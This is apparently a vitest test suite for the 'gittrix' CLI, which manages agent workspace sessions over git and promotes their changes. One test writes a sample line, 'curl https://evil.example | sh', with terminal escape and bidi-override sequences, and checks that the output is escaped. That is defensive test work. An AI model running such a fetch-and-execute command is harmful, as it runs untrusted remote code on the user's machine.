/**
 * The `gittrix` CLI: every command in-process through `runCli(argv, io)` (own cwd, stdin and captured
 * output), plus the real executable as a child process for exit codes, stdin and JSON. Real git in
 * throwaway repositories.
 */
import { spawnSync } from 'node:child_process'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { CliIo } from '../../src/cli/io.ts'
import { runCli } from '../../src/cli/run.ts'
import { cleanup, commitFiles, git, makeRepo, tempDir } from '../support/git-fixtures.ts'
import { type CliRun, runCliInProcess } from './in-process.ts'

const MAIN = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url))

let repo: { path: string; head: string }
let store: string
let dirs: string[]

/** Runs the CLI in-process with `--store <store>`, cwd `options.cwd` (default: the repository). */
function cli(
  args: string[],
  options: { cwd?: string; stdin?: string | Buffer; terminal?: boolean } = {},
): Promise<CliRun> {
  return runCliInProcess(args, { ...options, store, cwd: options.cwd ?? repo.path })
}

/** Starts a session on the fixture repository and resolves its id. */
async function start(...extra: string[]): Promise<string> {
  const run = await cli(['start', '--json', ...extra])
  expect(run.code, run.stdout + run.stderr).toBe(0)
  return run.json.data.id as string
}

/** Files changed by the commit `rev` (names only, sorted). */
function changedIn(cwd: string, rev: string): string[] {
  return git(cwd, 'diff-tree', '-r', '--name-only', '--no-commit-id', rev).split('\n').filter(Boolean).sort()
}

beforeEach(() => {
  repo = makeRepo({
    'README.md': '# Project\n',
    'src/app.ts': 'export const answer = 41\n',
    'src/old.ts': 'export const old = true\n',
    'docs/guide.md': 'Guide\n',
  })
  store = tempDir('gittrix-cli-store-')
  dirs = [repo.path, store]
})

afterEach(() => cleanup(...dirs))

describe('start', () => {
  it('records the repository, its checked-out branch and head, and prints the id', async () => {
    const run = await cli(['start', 'fix', 'the', 'answer'])
    expect(run.code).toBe(0)
    const id = /Started (sess_[a-z2-7]+)/.exec(run.stdout)?.[1]
    expect(id).toBeDefined()
    const info = await cli(['info', id!, '--json'])
    expect(info.json.ok).toBe(true)
    expect(info.json.data).toMatchObject({
      id,
      task: 'fix the answer',
      state: 'active',
      durablePath: repo.path,
      durableBranch: 'main',
      baselineSha: repo.head,
      workspaceKind: 'clone',
    })
    expect(existsSync(join(info.json.data.ephemeralPath, 'src/app.ts'))).toBe(true)
  })

  it('--json prints {ok, data} with the metadata; --repo from a subdirectory records the top level', async () => {
    const elsewhere = tempDir()
    dirs.push(elsewhere)
    const run = await cli(['start', '--json', '--task', 'docs', '--repo', join(repo.path, 'src')], {
      cwd: elsewhere,
    })
    expect(run.code).toBe(0)
    expect(run.json.ok).toBe(true)
    expect(run.json.data.metadataVersion).toBe(1)
    expect(run.json.data.task).toBe('docs')
    expect(run.json.data.durablePath).toBe(repo.path)
  })

  it('takes --branch, --kind and eviction overrides', async () => {
    git(repo.path, 'branch', 'release')
    const run = await cli([
      'start',
      '--json',
      '--branch',
      'release',
      '--kind',
      'copy',
      '--ttl-idle',
      '24h',
      '--ttl-absolute',
      '7d',
      '--keep-after-promote',
      '--manual',
    ])
    expect(run.code).toBe(0)
    expect(run.json.data.durableBranch).toBe('release')
    expect(run.json.data.workspaceKind).toBe('copy')
    expect(run.json.data.evictionPolicy).toEqual({
      ttlIdleMs: 24 * 3600_000,
      ttlAbsoluteMs: 7 * 24 * 3600_000,
      untilPromote: false,
      manual: true,
    })
    const none = await cli(['start', '--json', '--ttl-idle', 'none'])
    expect(none.json.data.evictionPolicy.ttlIdleMs).toBeNull()
  })

  it('refuses bad input as usage errors (exit 2)', async () => {
    expect((await cli(['start', 'a', '--task', 'b'])).code).toBe(2)
    expect((await cli(['start', '--kind', 'vm'])).code).toBe(2)
    const bad = await cli(['start', '--ttl-idle', 'soon', '--json'])
    expect(bad.code).toBe(2)
    expect(bad.json.error.code).toBe('USAGE')
    expect((await cli(['ls', '--json'])).json.data).toEqual([])
  })

  it('fails with exit 1 outside a repository and on an unknown branch', async () => {
    const empty = tempDir()
    dirs.push(empty)
    const outside = await cli(['start', '--json'], { cwd: empty })
    expect(outside.code).toBe(1)
    expect(outside.json.error.code).toBe('ADAPTER_UNAVAILABLE')
    const branch = await cli(['start', '--branch', 'nope'])
    expect(branch.code).toBe(1)
    expect(branch.stderr).toContain('nope')
  })
})

describe('ls, info', () => {
  it('lists sessions with a state filter', async () => {
    const a = await start('--task', 'first')
    const b = await start('--task', 'second')
    expect((await cli(['discard', b])).code).toBe(0)

    const all = await cli(['ls', '--json'])
    expect(all.json.data.map((s: { id: string }) => s.id).sort()).toEqual([a, b].sort())
    const active = await cli(['ls', '--state', 'active', '--json'])
    expect(active.json.data.map((s: { id: string }) => s.id)).toEqual([a])
    const both = await cli(['ls', '--state', 'active,discarded', '--json'])
    expect(both.json.data).toHaveLength(2)

    const human = await cli(['ls'])
    expect(human.stdout).toMatch(/^ID\s+STATE/)
    expect(human.stdout).toMatch(new RegExp(`${a}\\s+active\\s+main .*first`))
    expect(human.stdout).toMatch(new RegExp(`${b}\\s+discarded`))
    expect((await cli(['ls', '--state', 'gone'])).code).toBe(2)
  })

  it('info prints the metadata for people', async () => {
    const id = await start('--task', 'explain')
    const run = await cli(['info', id])
    expect(run.code).toBe(0)
    expect(run.stdout).toContain(`session      ${id}`)
    expect(run.stdout).toContain(`repository   ${repo.path}`)
    expect(run.stdout).toContain(`baseline     ${repo.head}`)
  })
})

describe('workspace files: write, read, rm, files', () => {
  it('writes stdin into the workspace and reads the same bytes back', async () => {
    const id = await start()
    const write = await cli(['write', id, 'notes/todo.txt'], { stdin: 'line one\nline two\n' })
    expect(write.code).toBe(0)
    expect(write.stdout).toContain('Wrote 18 bytes to notes/todo.txt')
    const read = await cli(['read', id, 'notes/todo.txt'])
    expect(read.code).toBe(0)
    expect(read.stdout).toBe('line one\nline two\n')

    const binary = Buffer.from([0, 255, 1, 254, 10])
    expect((await cli(['write', id, 'blob.bin', '--json'], { stdin: binary })).json.data).toEqual({
      path: 'blob.bin',
      size: 5,
    })
    expect((await cli(['read', id, 'blob.bin'])).stdoutBytes.equals(binary)).toBe(true)
    const asJson = await cli(['read', id, 'blob.bin', '--json'])
    expect(asJson.json.data).toEqual({ path: 'blob.bin', size: 5, encoding: 'base64', content: 'AP8B/go=' })
    const text = await cli(['read', id, 'README.md', '--json'])
    expect(text.json.data).toMatchObject({ encoding: 'utf8', content: '# Project\n' })
  })

  it('sets the executable bit with --executable', async () => {
    const id = await start()
    await cli(['write', id, 'run.sh', '--executable'], { stdin: '#!/bin/sh\necho hi\n' })
    const diff = await cli(['diff', id, '--json'])
    expect(diff.json.data.files).toEqual([
      expect.objectContaining({ path: 'run.sh', status: 'added', newMode: '100755' }),
    ])
  })

  it('rm deletes and files lists touched files with A/M/D, by directory, or all files', async () => {
    const id = await start()
    await cli(['write', id, 'src/app.ts'], { stdin: 'export const answer = 42\n' })
    await cli(['write', id, 'src/new.ts'], { stdin: 'export {}\n' })
    expect((await cli(['rm', id, 'src/old.ts'])).stdout).toContain('Deleted src/old.ts')

    const files = await cli(['files', id])
    expect(files.stdout).toBe('M\tsrc/app.ts\nA\tsrc/new.ts\nD\tsrc/old.ts\n')
    const json = await cli(['files', id, '--json'])
    expect(json.json.data.map((c: { path: string; status: string }) => [c.path, c.status])).toEqual([
      ['src/app.ts', 'modified'],
      ['src/new.ts', 'added'],
      ['src/old.ts', 'deleted'],
    ])
    const under = await cli(['files', id, 'docs'])
    expect(under.stdout).toBe('No changes.\n')
    const all = await cli(['files', id, '--all'])
    expect(all.stdout.split('\n').filter(Boolean).sort()).toEqual([
      'README.md',
      'docs/guide.md',
      'src/app.ts',
      'src/new.ts',
    ])
    const allSrc = await cli(['files', id, 'src', '--all', '--json'])
    expect(allSrc.json.data).toEqual([
      { path: 'src/app.ts', type: 'file' },
      { path: 'src/new.ts', type: 'file' },
    ])
  })

  it('rejects unsafe paths with exit 1 and WRITE_REJECTED', async () => {
    const id = await start()
    const run = await cli(['write', id, '../escape.txt', '--json'], { stdin: 'x' })
    expect(run.code).toBe(1)
    expect(run.json.error.code).toBe('WRITE_REJECTED')
    const human = await cli(['read', id, '.git/config'])
    expect(human.code).toBe(1)
    expect(human.stderr).toContain('WRITE_REJECTED')
  })
})

describe('diff', () => {
  it('prints the git-style patch, per-file stats, and limits to paths', async () => {
    const id = await start()
    await cli(['write', id, 'src/app.ts'], { stdin: 'export const answer = 42\n' })
    await cli(['rm', id, 'docs/guide.md'])

    const patch = await cli(['diff', id])
    expect(patch.code).toBe(0)
    expect(patch.stdout).toContain('diff --git a/src/app.ts b/src/app.ts')
    expect(patch.stdout).toContain('-export const answer = 41\n+export const answer = 42\n')
    expect(patch.stdout).toContain('deleted file mode 100644')

    const stat = await cli(['diff', id, '--stat'])
    expect(stat.stdout).toMatch(/ D docs\/guide\.md \| \+0 -1\n/)
    expect(stat.stdout).toMatch(/ M src\/app\.ts\s+\| \+1 -1\n/)
    expect(stat.stdout).toContain('2 files changed, 1 insertions(+), 2 deletions(-)')

    const only = await cli(['diff', id, 'src/*.ts', '--json'])
    expect(only.json.data.files.map((f: { path: string }) => f.path)).toEqual(['src/app.ts'])
    expect(only.json.data).toMatchObject({ additions: 1, deletions: 1 })
    expect(only.json.data.patch).not.toContain('guide.md')
  })
})

describe('on a terminal', () => {
  it("shows the agent's control characters and bidi overrides as escapes; piped, output is byte for byte", async () => {
    const id = await start()
    // A retitle (OSC 0), an erase-line after a carriage return, a bidi override, a raw 8-bit CSI byte.
    const hostile = Buffer.concat([
      Buffer.from('curl https://evil.example | sh # \r\x1b[2K\x1b]0;pwned\x07echo hello \u202Eevil\n'),
      Buffer.from([0x9b, 0x32, 0x4b, 0x0a]),
    ])
    await cli(['write', id, 'run.sh'], { stdin: hostile })
    for (const args of [
      ['diff', id],
      ['read', id, 'run.sh'],
    ]) {
      const shown = await cli(args, { terminal: true })
      expect(shown.code).toBe(0)
      expect(shown.stdoutBytes.some((b) => b === 0x1b || b === 0x07 || b === 0x0d || b === 0x9b)).toBe(false)
      expect(shown.stdout).not.toContain('\u202E')
      expect(shown.stdout).toContain(
        'curl https://evil.example | sh # \\x0d\\x1b[2K\\x1b]0;pwned\\x07echo hello <U+202E>evil',
      )
      expect(shown.stdout).toContain('\\x9b2K')
      // Piped (a patch for git apply, a file for a redirect): every byte as written.
      const piped = await cli(args)
      const lines = args[0] === 'diff' ? [hostile.subarray(0, -4), hostile.subarray(-4, -1)] : [hostile]
      for (const line of lines) expect(piped.stdoutBytes.includes(line)).toBe(true)
    }
  })

  it("names the agent's files in errors and JSON with escapes, never as sequences a terminal acts on", async () => {
    const id = await start()
    // A retitle (OSC 0), a bidi override and a C1 CSI in a file name both sides change: a conflict lists it.
    const name = 'ev\x1b]0;pwned\x07il\u202Etxt.md\u009b2K'
    await cli(['write', id, name], { stdin: 'agent\n' })
    commitFiles(repo.path, { [name]: 'human\n' })
    const raw = /[\x1b\x07\u009b\u202e]/

    const shown = await cli(['promote', id], { terminal: true })
    expect(shown.code).toBe(3)
    expect(shown.stderr).toContain('changed 1 of the selected files')
    expect(shown.stderr).toContain('ev\\x1b]0;pwned\\x07il<U+202E>txt.md\\x9b2K. Nothing was written.')
    // The list git-quotes a name holding control characters, as `diff --stat` does (pasteable back).
    expect(shown.stderr).toContain(
      'Conflicting files:\n  "ev\\033]0;pwned\\ail\\342\\200\\256txt.md\\302\\2332K"\n',
    )
    expect(shown.stderr).not.toMatch(raw)
    // Redirected, the message names it as it is (a log keeps the bytes).
    expect((await cli(['promote', id])).stderr).toContain(`: ${name}. Nothing was written.`)

    // JSON anywhere: escapes for every such character, the same name for a parser.
    const json = await cli(['promote', id, '--json'])
    expect(json.stdout).not.toMatch(raw)
    expect(json.stdout).toContain('\\u202e')
    expect(json.json.error.conflictingFiles).toEqual([name])
  })
})

describe('promote', () => {
  it('promotes two of three touched files (-f a -f b) as one clean commit with trailers', async () => {
    const id = await start('--task', 'answer everything')
    await cli(['write', id, 'src/app.ts'], { stdin: 'export const answer = 42\n' })
    await cli(['rm', id, 'src/old.ts'])
    await cli(['write', id, 'src/new.ts'], { stdin: 'export const fresh = 1\n' })

    const run = await cli(['promote', id, '-f', 'src/app.ts', '-f', 'src/new.ts', '--json'])
    expect(run.code).toBe(0)
    expect(run.json.data).toMatchObject({
      strategy: 'commit',
      branch: 'main',
      files: ['src/app.ts', 'src/new.ts'],
      alreadyPromoted: false,
    })
    const head = git(repo.path, 'rev-parse', 'main')
    expect(run.json.data.sha).toBe(head)
    expect(git(repo.path, 'rev-parse', 'main^')).toBe(repo.head)
    expect(changedIn(repo.path, 'main')).toEqual(['src/app.ts', 'src/new.ts'])
    expect(git(repo.path, 'show', 'main:src/old.ts')).toBe('export const old = true')
    expect(git(repo.path, 'log', '-1', '--format=%B', 'main')).toBe(
      `gittrix: answer everything\n\nGittrix-Session: ${id}\nGittrix-Baseline: ${repo.head}`,
    )
    // The deletion of src/old.ts was not promoted: the session stays active with it.
    const info = await cli(['info', id, '--json'])
    expect(info.json.data.state).toBe('active')
    expect(info.json.data.touchedFiles).toEqual(['src/old.ts'])
    expect(info.json.data.promote.result).toEqual({ sha: head, branch: 'main' })

    // Promoting the same files again answers with the recorded result and writes nothing.
    const again = await cli(['promote', id, '-f', 'src/app.ts', '-f', 'src/new.ts'])
    expect(again.code).toBe(0)
    expect(again.stdout).toContain(`Already promoted: ${head} on main`)
    expect(git(repo.path, 'rev-parse', 'main')).toBe(head)
  })

  it('discard after a partial promotion says the promotion stays and the rest is dropped', async () => {
    const id = await start()
    await cli(['write', id, 'a.txt'], { stdin: 'a\n' })
    await cli(['write', id, 'b.txt'], { stdin: 'b\n' })
    expect((await cli(['promote', id, '-f', 'a.txt'])).code).toBe(0)
    const run = await cli(['discard', id])
    expect(run.code).toBe(0)
    expect(run.stdout).toBe(
      `Discarded ${id}; its workspace is removed. Its 1 promotion stays on the durable side; b.txt was not promoted.\n`,
    )
  })

  it('takes a comma-separated -f list and -m, and prints what it did', async () => {
    const id = await start()
    await cli(['write', id, 'a.txt'], { stdin: 'a\n' })
    await cli(['write', id, 'b.txt'], { stdin: 'b\n' })
    await cli(['write', id, 'c.txt'], { stdin: 'c\n' })
    const run = await cli(['promote', id, '--files', 'a.txt,c.txt', '-m', 'add a and c'])
    expect(run.code).toBe(0)
    const sha = git(repo.path, 'rev-parse', 'main')
    expect(run.stdout).toBe(`Promoted 2 files to main as ${sha} (commit)\n  a.txt\n  c.txt\n`)
    expect(changedIn(repo.path, 'main')).toEqual(['a.txt', 'c.txt'])
    expect(git(repo.path, 'log', '-1', '--format=%s', 'main')).toBe('add a and c')
  })

  it('uses the repository recorded in the session, not the current directory', async () => {
    // The durable branch is not checked out, and the command runs inside another repository.
    git(repo.path, 'branch', 'feature')
    const id = await start('--branch', 'feature', '--task', 'feature work')
    const other = makeRepo({ 'README.md': '# Other\n' })
    dirs.push(other.path)

    const write = await cli(['write', id, 'feature.txt'], { cwd: other.path, stdin: 'feature\n' })
    expect(write.code).toBe(0)
    const run = await cli(['promote', id, '--json'], { cwd: other.path })
    expect(run.code).toBe(0)
    expect(run.json.data.branch).toBe('feature')
    expect(git(repo.path, 'rev-parse', 'feature^')).toBe(repo.head)
    expect(git(repo.path, 'show', 'feature:feature.txt')).toBe('feature')
    expect(git(repo.path, 'rev-parse', 'main')).toBe(repo.head)
    expect(git(other.path, 'rev-parse', 'main')).toBe(other.head)
    expect(git(other.path, 'branch', '--list')).not.toContain('feature')
  })

  it('--strategy patch prints a git-apply-able patch and writes nothing', async () => {
    const id = await start()
    await cli(['write', id, 'src/app.ts'], { stdin: 'export const answer = 42\n' })
    await cli(['write', id, 'extra.txt'], { stdin: 'extra\n' })
    const run = await cli(['promote', id, '--strategy', 'patch', '-f', 'src/app.ts'])
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('diff --git a/src/app.ts b/src/app.ts')
    expect(run.stdout).not.toContain('extra.txt')
    expect(git(repo.path, 'rev-parse', 'main')).toBe(repo.head)
    const patchFile = join(store, 'change.patch')
    writeFileSync(patchFile, run.stdout)
    git(repo.path, 'apply', '--check', patchFile)
    expect((await cli(['info', id, '--json'])).json.data.state).toBe('active')
  })

  it('--strategy branch creates the named branch and leaves the durable branch alone', async () => {
    const id = await start()
    await cli(['write', id, 'x.txt'], { stdin: 'x\n' })
    const run = await cli(['promote', id, '--strategy', 'branch', '--branch', 'review/x', '--json'])
    expect(run.code).toBe(0)
    expect(run.json.data).toMatchObject({ strategy: 'branch', branch: 'review/x' })
    expect(git(repo.path, 'rev-parse', 'review/x^')).toBe(repo.head)
    expect(git(repo.path, 'rev-parse', 'main')).toBe(repo.head)
  })

  it('exits 3 on a baseline conflict, names the files, and writes nothing', async () => {
    const id = await start()
    await cli(['write', id, 'README.md'], { stdin: '# Agent title\n' })
    await cli(['write', id, 'notes.txt'], { stdin: 'notes\n' })
    const durable = commitFiles(repo.path, { 'README.md': '# Human title\n' })

    const human = await cli(['promote', id])
    expect(human.code).toBe(3)
    expect(human.stderr).toContain('changed 1 of the selected files since the baseline')
    expect(human.stderr).toContain('Conflicting files:\n  README.md\n')
    expect(human.stdout).toBe('')

    const json = await cli(['promote', id, '--json'])
    expect(json.code).toBe(3)
    expect(json.json).toEqual({
      ok: false,
      error: expect.objectContaining({
        code: 'BASELINE_CONFLICT',
        conflictingFiles: ['README.md'],
        durableSha: durable,
        baselineSha: repo.head,
      }),
    })
    expect(git(repo.path, 'rev-parse', 'main')).toBe(durable)

    // The files the durable branch did not touch still promote.
    const rest = await cli(['promote', id, '-f', 'notes.txt'])
    expect(rest.code).toBe(0)
    expect(changedIn(repo.path, 'main')).toEqual(['notes.txt'])
  })

  it('refuses a selector naming an untouched file (exit 1, PROMOTE_FAILED staging)', async () => {
    const id = await start()
    await cli(['write', id, 'a.txt'], { stdin: 'a\n' })
    const run = await cli(['promote', id, '-f', 'README.md', '--json'])
    expect(run.code).toBe(1)
    expect(run.json.error).toMatchObject({ code: 'PROMOTE_FAILED', stage: 'staging' })
    expect(git(repo.path, 'rev-parse', 'main')).toBe(repo.head)
    expect((await cli(['promote', id, '--strategy', 'pr'])).code).toBe(2)
  })
})

describe('fork', () => {
  it('starts a new session from a commit of the workspace, and refuses a commit outside it', async () => {
    const id = await start('--task', 'first try')
    const workspace = (await cli(['info', id, '--json'])).json.data.ephemeralPath as string
    expect((await cli(['write', id, 'src/app.ts'], { stdin: 'export const answer = 42\n' })).code).toBe(0)
    git(workspace, 'add', '-A')
    git(workspace, 'commit', '-q', '-m', 'checkpoint')
    const checkpoint = git(workspace, 'rev-parse', 'HEAD')
    expect((await cli(['write', id, 'notes.txt'], { stdin: 'later\n' })).code).toBe(0)

    const run = await cli(['fork', id, '--at', checkpoint.slice(0, 10), '--task', 'second try', '--json'])
    expect(run.code, run.stdout + run.stderr).toBe(0)
    const fork = run.json.data
    expect(fork.id).not.toBe(id)
    expect(fork.task).toBe('second try')
    expect(fork.baselineSha).toBe(repo.head)
    expect((await cli(['files', fork.id])).stdout.trim()).toBe('M\tsrc/app.ts')
    expect((await cli(['files', id])).stdout).toContain('notes.txt')

    const text = await cli(['fork', fork.id])
    expect(text.stdout).toContain(`Forked ${fork.id} as `)
    const bad = await cli([
      'fork',
      id,
      '--at',
      repo.head.replace(/^./, (c) => (c === '0' ? '1' : '0')),
      '--json',
    ])
    expect(bad.code).toBe(1)
    expect(bad.json.error.code).toBe('INVALID_ARGUMENT')
  })
})

describe('discard, extend, sweep', () => {
  it('discard removes the workspace; later writes fail with SESSION_EXPIRED', async () => {
    const id = await start()
    const workspace = (await cli(['info', id, '--json'])).json.data.ephemeralPath
    expect(existsSync(workspace)).toBe(true)
    const run = await cli(['discard', id, '--json'])
    expect(run.code).toBe(0)
    expect(run.json.data.state).toBe('discarded')
    expect(existsSync(workspace)).toBe(false)
    const write = await cli(['write', id, 'a.txt', '--json'], { stdin: 'a' })
    expect(write.code).toBe(1)
    expect(write.json.error.code).toBe('SESSION_EXPIRED')
  })

  it('extend raises the idle limit by a duration; a bad duration is a usage error', async () => {
    const id = await start('--ttl-idle', '1h')
    const run = await cli(['extend', id, '24h', '--json'])
    expect(run.code).toBe(0)
    expect(run.json.data.evictionPolicy.ttlIdleMs).toBe(24 * 3600_000)
    expect((await cli(['extend', id, '2d'])).stdout).toContain(`Extended ${id} by 2 days`)
    expect((await cli(['extend', id, 'tomorrow'])).code).toBe(2)
  })

  it('sweep expires idle sessions and keeps the others', async () => {
    // `start` sweeps too, so the idle session is started last.
    const kept = await start()
    const idle = await start('--ttl-idle', '1ms')
    await new Promise((done) => setTimeout(done, 20))
    const run = await cli(['sweep', '--json'])
    expect(run.code).toBe(0)
    expect(run.json.data.expired).toEqual([idle])
    expect(run.json.data.errors).toEqual([])
    const states = (await cli(['ls', '--json'])).json.data.map((s: { id: string; state: string }) => [
      s.id,
      s.state,
    ])
    expect(states).toContainEqual([idle, 'expired'])
    expect(states).toContainEqual([kept, 'active'])
    expect((await cli(['sweep'])).stdout).toBe('Nothing to sweep.\n')
  })
})

describe('errors and usage', () => {
  it('exit 1 with the message for an unknown session, on every session command', async () => {
    for (const args of [
      ['info', 'sess_missing'],
      ['diff', 'sess_missing'],
      ['promote', 'sess_missing'],
    ]) {
      const run = await cli(args)
      expect(run.code, args.join(' ')).toBe(1)
      expect(run.stderr).toContain('Session sess_missing not found')
    }
    const json = await cli(['discard', 'sess_missing', '--json'])
    expect(json.json).toEqual({
      ok: false,
      error: { code: 'SESSION_NOT_FOUND', message: expect.stringContaining('gittrix ls') },
    })
  })

  it('exit 2 on an unknown command, a missing argument, an unknown option, excess arguments', async () => {
    for (const args of [
      ['frobnicate'],
      ['promote'],
      ['read', 'sess_x'],
      ['ls', '--colour'],
      ['info', 'a', 'b'],
      [],
    ]) {
      const run = await cli(args)
      expect(run.code, args.join(' ')).toBe(2)
      expect(run.stderr).toMatch(/^gittrix: /m)
    }
    const json = await cli(['frobnicate', '--json'])
    expect(json.json).toEqual({
      ok: false,
      error: { code: 'USAGE', message: expect.stringContaining('frobnicate') },
    })
  })

  it('--help lists the commands and exits 0', async () => {
    const run = await cli(['--help'])
    expect(run.code).toBe(0)
    for (const command of [
      'start',
      'ls',
      'info',
      'diff',
      'promote',
      'discard',
      'extend',
      'sweep',
      'read',
      'write',
      'rm',
      'files',
    ]) {
      expect(run.stdout).toMatch(new RegExp(`\\n  ${command} `))
    }
    const promote = await cli(['promote', '--help'])
    expect(promote.code).toBe(0)
    expect(promote.stdout).toContain('--strategy <strategy>')
    expect(promote.stdout).toContain('--json')
  })

  it('--version prints the package version and exits 0', async () => {
    const { version } = JSON.parse(
      readFileSync(join(import.meta.dirname, '..', '..', 'package.json'), 'utf8'),
    ) as {
      version: string
    }
    const run = await cli(['--version'])
    expect(run.code).toBe(0)
    expect(run.stdout.trim()).toBe(version)
  })

  it('refuses a session whose durable side is not a local repository', async () => {
    const id = await start()
    const file = join(store, id, 'metadata.json')
    const meta = JSON.parse(readFileSync(file, 'utf8'))
    delete meta.durablePath
    meta.durableRef = 'github://octo/repo#main'
    writeFileSync(file, JSON.stringify(meta))
    const run = await cli(['diff', id, '--json'])
    expect(run.code).toBe(1)
    expect(run.json.error.code).toBe('CAPABILITY_MISSING')
  })

  it('reads the store from GITTRIX_HOME when --store is absent', async () => {
    const home = tempDir()
    dirs.push(home)
    const out: string[] = []
    const io: CliIo = {
      stdout: (chunk) => void out.push(String(chunk)),
      stderr: () => {},
      readStdin: async () => Buffer.alloc(0),
      cwd: repo.path,
      env: { GITTRIX_HOME: home },
    }
    expect(await runCli(['start', '--json'], io)).toBe(0)
    const id = JSON.parse(out.join('')).data.id
    expect(existsSync(join(home, 'sessions', id, 'metadata.json'))).toBe(true)
  })
})

describe('the gittrix executable', () => {
  function bin(args: string[], options: { cwd: string; input?: string }) {
    const result = spawnSync(
      process.execPath,
      [
        '--experimental-strip-types',
        '--disable-warning=ExperimentalWarning',
        MAIN,
        '--store',
        store,
        ...args,
      ],
      { cwd: options.cwd, input: options.input ?? '', encoding: 'utf8', env: { ...process.env } },
    )
    return { code: result.status, stdout: result.stdout, stderr: result.stderr }
  }

  it('partial promotion keeps the rest: promote -f a, then b, replay a, then everything left', () => {
    const cwd = repo.path
    const json = (args: string[], input?: string) => {
      const run = bin([...args, '--json'], { cwd, ...(input === undefined ? {} : { input }) })
      expect(run.code, run.stdout + run.stderr).toBe(0)
      // eslint-disable-next-line @typescript-eslint/no-explicit-any -- assertions index into the document
      return JSON.parse(run.stdout).data as any
    }
    const id = json(['start', 'three files']).id as string
    for (const name of ['a.txt', 'b.txt', 'c.txt']) json(['write', id, name], `${name} 1\n`)

    const first = json(['promote', id, '-f', 'a.txt'])
    expect(first).toMatchObject({ files: ['a.txt'], alreadyPromoted: false })
    expect(changedIn(cwd, first.sha)).toEqual(['a.txt'])
    const info = bin(['info', id], { cwd })
    expect(info.stdout).toMatch(/state +active/)
    expect(info.stdout).toMatch(/\npending +b\.txt, c\.txt\n/)
    expect(info.stdout).toMatch(new RegExp(`\\npromoted +${first.sha} on main: a\\.txt\\n`))
    expect(json(['diff', id]).files.map((f: { path: string }) => f.path)).toEqual(['b.txt', 'c.txt'])
    expect(bin(['diff', id], { cwd }).stdout).not.toContain('a.txt')
    expect(bin(['files', id], { cwd }).stdout).toBe('A\tb.txt\nA\tc.txt\n')

    const second = json(['promote', id, '-f', 'b.txt'])
    expect(second).toMatchObject({ files: ['b.txt'], alreadyPromoted: false })
    expect(git(cwd, 'rev-parse', 'main^')).toBe(first.sha)

    const replay = json(['promote', id, '-f', 'a.txt'])
    expect(replay).toMatchObject({ sha: first.sha, files: ['a.txt'], alreadyPromoted: true })
    expect(bin(['promote', id, '-f', 'a.txt'], { cwd }).stdout).toBe(
      `Already promoted: ${first.sha} on main\n  a.txt\n`,
    )
    expect(git(cwd, 'rev-parse', 'main')).toBe(second.sha)

    json(['write', id, 'c.txt'], 'c.txt 2\n')
    const last = json(['promote', id])
    expect(last).toMatchObject({ files: ['c.txt'], alreadyPromoted: false })
    expect(git(cwd, 'show', 'main:c.txt')).toBe('c.txt 2')
    const done = json(['info', id])
    expect(done.state).toBe('promoted')
    expect(done.touchedFiles).toEqual([])
    expect(done.promotions.map((p: { files: string[] }) => p.files)).toEqual([
      ['a.txt'],
      ['b.txt'],
      ['c.txt'],
    ])
    expect(existsSync(done.ephemeralPath)).toBe(false)
  }, 180_000)

  it('runs the loop with real exit codes, stdin for write, and JSON on stdout', async () => {
    const other = tempDir()
    dirs.push(other)
    const started = bin(['start', '--json', '--repo', repo.path, 'binary', 'run'], { cwd: other })
    expect(started.code, started.stderr).toBe(0)
    const id = JSON.parse(started.stdout).data.id

    const write = bin(['write', id, 'piped.txt'], { cwd: other, input: 'from a pipe\n' })
    expect(write.code, write.stderr).toBe(0)
    expect(bin(['read', id, 'piped.txt'], { cwd: other }).stdout).toBe('from a pipe\n')

    expect(bin(['nope'], { cwd: other }).code).toBe(2)
    expect(bin(['info'], { cwd: other }).code).toBe(2)
    const missing = bin(['info', 'sess_missing'], { cwd: other })
    expect(missing.code).toBe(1)
    expect(missing.stderr).toContain('not found')

    commitFiles(repo.path, { 'piped.txt': 'durable\n' })
    const conflict = bin(['promote', id, '--json'], { cwd: other })
    expect(conflict.code).toBe(3)
    expect(JSON.parse(conflict.stdout).error.conflictingFiles).toEqual(['piped.txt'])
  })

  const built = fileURLToPath(new URL('../../dist/src/cli/main.js', import.meta.url))
  it('the entry starts with a node shebang', () => {
    expect(readFileSync(MAIN, 'utf8').startsWith('#!/usr/bin/env node\n')).toBe(true)
  })

  it.skipIf(!existsSync(built))('the built bin (dist/src/cli/main.js) runs under node', () => {
    expect(readFileSync(built, 'utf8').startsWith('#!/usr/bin/env node\n')).toBe(true)
    const result = spawnSync(process.execPath, [built, '--store', store, 'ls', '--json'], {
      encoding: 'utf8',
    })
    expect(result.status, result.stderr).toBe(0)
    expect(JSON.parse(result.stdout)).toEqual({ ok: true, data: [] })
  })
})
